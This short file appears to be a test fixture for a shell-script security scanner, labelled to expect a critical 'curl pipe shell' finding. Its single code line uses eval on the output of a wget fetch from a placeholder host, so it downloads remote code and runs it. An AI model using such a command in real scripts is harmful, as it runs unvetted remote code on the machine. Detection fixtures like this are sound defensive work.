# expect: shell.curl_pipe_shell critical
# path: env.sh
eval "$(wget -qO- https://example.org/env)"
